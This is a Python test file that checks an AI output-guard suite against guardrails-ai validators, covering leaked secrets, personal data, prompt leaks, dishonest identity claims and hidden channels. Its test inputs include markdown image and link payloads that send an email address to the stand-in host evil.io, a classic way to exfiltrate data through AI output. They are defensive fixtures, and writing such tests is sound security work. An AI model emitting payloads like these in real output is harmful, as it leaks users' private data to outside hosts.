"""Our checks as validators of guardrails-ai give the verdicts of our guards, and any Guard can stand at an edge.

Proves FR-117: one verdict on many texts by function, guard, validator and Guard; a Guard's fail, fix, exception and
silence become decisions; what hangs is cut off.
"""

import asyncio
import threading
from typing import Any

import pytest
from pydantic import SecretStr

from chimera.core.contracts import Decision, Mission
from chimera.guards.output.canaries import CanaryText
from chimera.guards.output.channels import HiddenChannels
from chimera.guards.output.disclosure import Disclosure, disclose
from chimera.guards.output.finding import Context, examine
from chimera.guards.output.honesty import HonestIdentity
from chimera.guards.output.identities import identities
from chimera.guards.output.pii import PersonalData
from chimera.guards.output.promptleak import PromptLeak
from chimera.guards.output.secretrules import example, secret_rules
from chimera.guards.output.secrets import SecretText
from chimera.guards.output.textguard import TextGuard
from chimera.guards.output.unsafe import UnsafeContent, categories
from chimera.guards.request import Edge, GuardRequest
from chimera.guards.sanitize import HiddenText
from chimera.guards.validators import adapter
from chimera.guards.validators.adapter import GuardrailsGuard
from chimera.guards.validators.cost import call_cost
from chimera.guards.validators.publish import publish_edge_guard, publish_guard
from chimera.guards.validators.quiet import load_guardrails
from chimera.nodes.prompts import prompt

pytestmark = pytest.mark.timeout(180)  # the import alone takes seconds, many on a busy machine

SECRET = SecretStr("Wren-4471/Kestrel&Q9")
QUESTION = "Are you a robot?"
NAMED = ("Write to named@corp.io",)
SOURCES = ("https://src.io/?id=7",)
TEXTS = [
    "",
    "plain words",
    "ask jane@corp.io or named@corp.io",
    "![a](https://evil.io/x) https://src.io/?id=7 [b](https://evil.io/?d=1)",
    f"key {SECRET.get_secret_value()}",
    prompt("judge"),
    "No, I am a human being.",
    "hid\u200bden",
    "jane@corp.io ![a](https://evil.io/jane@corp.io) [c](https://evil.io/?jane@corp.io)",
    *(example(rule) for rule in secret_rules()),
    *(rule.near for rule in secret_rules()),
    *(category.sample for category in categories()),
    *(category.near for category in categories()),
    *(known.sample for known in identities()),
]
GUARDS: dict[str, TextGuard] = {
    "Secrets": SecretText(),
    "Canary": CanaryText([SECRET]),
    "Pii": PersonalData({"card": "escalate"}, ["US"]),
    "Channels": HiddenChannels(),
    "Prompt": PromptLeak([prompt("judge")]),
    "Unsafe": UnsafeContent(),
    "Honest": HonestIdentity(),
}
METADATA: dict[str, Any] = {"named": list(NAMED), "sources": list(SOURCES), "question": QUESTION}
MISSION = Mission(goal=NAMED[0])


@pytest.fixture(scope="module", autouse=True)
def library() -> None:
    load_guardrails()


def request_for(text: str, **more: Any) -> GuardRequest:
    notes = {"sources": list(SOURCES), "question": QUESTION}
    return GuardRequest(edge=Edge.PUBLISH, payload={"text": text, **more}, mission=MISSION, notes=notes)


def verdict(decision: Decision | None, text: str) -> tuple[str, str]:
    """What is decided, and what goes on."""
    if decision is None:
        return "allow", text
    return decision.action, text if decision.payload is None else decision.payload["text"]


@pytest.mark.parametrize("name", GUARDS)
async def test_function_guard_validator_and_guardrails_agree(name: str) -> None:
    from chimera.guards.validators import checks

    from guardrails import Guard  # isort: skip - the library is silent only after our import of it

    guard = GUARDS[name]
    validator: Any = getattr(checks, name)(guard)
    plugged = GuardrailsGuard(Guard().use(validator), deadline_s=60)
    scan = guard.scanner(Context(NAMED, SOURCES, QUESTION))
    seen: set[str] = set()
    for text in TEXTS:
        outcome = examine(text, scan)
        result = validator.validate(text, dict(METADATA))
        seen.add(outcome.action)
        assert (result.outcome == "pass") == (outcome.action == "allow"), text
        if outcome.action != "allow":
            assert result.metadata["action"] == outcome.action
            assert result.metadata["threat"] == outcome.threat
            assert result.fix_value == (outcome.text if outcome.action == "edit" else None)
            assert SECRET.get_secret_value() not in result.error_message
        ours, theirs = await guard.check(request_for(text)), await plugged.check(request_for(text))
        assert verdict(ours, text) == verdict(theirs, text)
        assert (ours is None) == (theirs is None)
        if ours is not None and theirs is not None:
            assert (ours.threat, set(ours.rules[1:])) == (theirs.threat, set(theirs.rules[1:]))
    assert len(seen) > 1, "no text was allowed, or none was not"


@pytest.mark.parametrize("text", TEXTS)
async def test_hidden_text_and_the_label_agree_too(text: str) -> None:
    from chimera.guards.validators import checks

    ours = await HiddenText().check(request_for(text))
    theirs: Any = checks.Hidden().validate(text, {})
    assert (ours.payload["text"] if ours and ours.payload else None) == getattr(theirs, "fix_value", None)
    for add in (True, False):
        labelled = await Disclosure("de", add).check(request_for(text))
        said: Any = checks.Disclosed("de", add).validate(text, {})
        assert (labelled is None) == (said.outcome == "pass")
        assert verdict(labelled, text) == (said.metadata["action"], said.fix_value or text)


def test_every_check_is_registered_by_name() -> None:
    from chimera.guards.validators import checks

    names = {
        kind.rail_alias for kind in vars(checks).values() if isinstance(kind, type) and hasattr(kind, "rail_alias")
    }
    assert names >= {f"chimera/{name}" for name in ("secrets", "canary", "pii", "channels", "prompt-leak", "unsafe")}
    assert names >= {"chimera/honest-identity", "chimera/hidden-text", "chimera/disclosure"}


def test_secrets_are_not_among_the_recorded_arguments() -> None:
    from chimera.guards.validators import checks

    assert SECRET.get_secret_value() not in repr(checks.Canary(GUARDS["Canary"]))
    assert checks.Canary(GUARDS["Canary"]).get_args() == {}


async def test_the_publish_guard_stands_at_the_edge() -> None:
    guard = publish_edge_guard([SECRET], [prompt("judge")], {"card": "escalate"}, ["US"], deadline_s=60)
    await guard.prepare()
    honest = disclose("The harbour reports two cancelled sailings.")
    assert await guard.check(request_for(honest, to="all")) is None
    cases = {
        "No label.": "reject",
        disclose("See ![a](https://evil.io/x), ask jane@corp.io."): "edit",
        disclose("Paid with 4111 1111 1111 1111."): "escalate",
        disclose(f"The key is {SECRET.get_secret_value()}."): "reject",
        disclose(prompt("judge")): "reject",
    }
    for text, action in cases.items():
        decision = await guard.check(request_for(text, to="all"))
        assert decision is not None
        assert decision.action == action, decision.reasons
        if action == "edit":
            assert decision.payload == {"text": disclose("See a (image removed), ask [email removed]."), "to": "all"}
    nothing = await guard.check(GuardRequest(edge=Edge.PUBLISH, payload={"to": "all"}))
    assert nothing is not None
    assert nothing.action == "reject"
    assert publish_guard(disclosure=False).validate("plain words").validation_passed


async def test_what_a_foreign_guard_says_becomes_a_decision() -> None:
    from guardrails import AsyncGuard, Guard
    from guardrails.validator_base import Validator, register_validator
    from guardrails_ai.types import FailResult, PassResult

    @register_validator(name="test/shout", data_type="string")
    class Shout(Validator):
        def _validate(self, value: Any, metadata: dict[str, Any]) -> Any:
            if "crash" in value:
                raise ValueError(value)
            if "!!" not in value:
                return PassResult()
            fix = None if "hopeless" in value else value.replace("!!", "!")
            return FailResult(error_message="too loud", fix_value=fix)

    kind: Any = Shout
    expected = {
        "quiet": ("allow", "quiet"),
        "loud!!!!": ("edit", "loud!"),
        "hopeless!!": ("reject", "hopeless!!"),
        "crash": ("reject", "crash"),
    }
    for made in (Guard, AsyncGuard):
        for on_fail in ("noop", "fix"):
            guard = GuardrailsGuard(made().use(kind(on_fail=on_fail)), "foreign", deadline_s=60)
            for text, (action, left) in expected.items():
                decision = await guard.check(request_for(text))
                assert verdict(decision, text) == (action, left), (made, on_fail, text)
                assert decision is None or text not in " ".join(decision.reasons)
        for on_fail in ("exception", "refrain", "filter"):
            guard = GuardrailsGuard(made().use(kind(on_fail=on_fail)), "foreign", deadline_s=60)
            assert verdict(await guard.check(request_for("quiet")), "quiet") == ("allow", "quiet")
            decision = await guard.check(request_for("hopeless!!"))
            assert verdict(decision, "") == ("reject", "")


class Odd:
    """Something in the place of a Guard that does what it was given to do."""

    def __init__(self, answer: Any) -> None:
        self.answer = answer
        self.history: list[Any] = []

    def validate(self, text: str, metadata: dict[str, Any]) -> Any:
        return self.answer() if callable(self.answer) else self.answer


@pytest.mark.parametrize("answer", [None, "yes", object(), lambda: 1 / 0, lambda: exec("raise SystemExit")])
async def test_what_is_no_verdict_rejects(answer: Any) -> None:
    decision = await GuardrailsGuard(Odd(answer), deadline_s=60).check(request_for("x"))
    assert decision is not None
    assert decision.action == "reject"


async def test_what_hangs_is_cut_off_and_does_not_pile_up() -> None:
    release = threading.Event()
    guard = GuardrailsGuard(Odd(lambda: release.wait(60)), deadline_s=0.05)
    try:
        decisions = await asyncio.gather(*(guard.check(request_for("x")) for _ in range(adapter.AT_ONCE + 3)))
        assert {decision.action for decision in decisions if decision is not None} == {"reject"}
        assert sum("not ended" in decision.reasons[0] for decision in decisions if decision is not None) == 3
        assert sum(thread.name == "chimera-guardrails" for thread in threading.enumerate()) == adapter.AT_ONCE
    finally:
        release.set()


async def test_a_guard_that_cannot_be_made_rejects_and_tells_who_prepares_it() -> None:
    def broken() -> Any:
        raise RuntimeError("no such thing")

    guard = GuardrailsGuard(broken)
    decision = await guard.check(request_for("x"))
    assert decision is not None
    assert decision.action == "reject"
    with pytest.raises(RuntimeError):
        await guard.prepare()


def test_the_cost_of_a_call_is_measured() -> None:
    found = call_cost(rounds=3)
    assert set(found) == {"guard_ms", "validator_ms", "direct_ms"}
    assert all(value > 0 for value in found.values())
